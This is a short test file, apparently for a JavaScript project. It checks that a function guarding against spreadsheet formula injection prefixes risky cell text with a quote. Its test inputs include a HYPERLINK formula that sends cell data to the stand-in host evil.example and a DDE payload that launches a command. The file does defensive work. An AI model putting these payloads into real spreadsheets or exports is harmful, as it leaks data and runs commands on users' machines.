import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from './spreadsheet-safe.js';

describe('a text cell made safe for spreadsheets', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1',
    '\r=1',
    '=1\n+2',
    '\uFF1D1+1',
  ])('prefixes %j with a single quote', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(['BR', 'vendor:huawei', '2021-01-31', ' =1', "'quoted", ''])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});
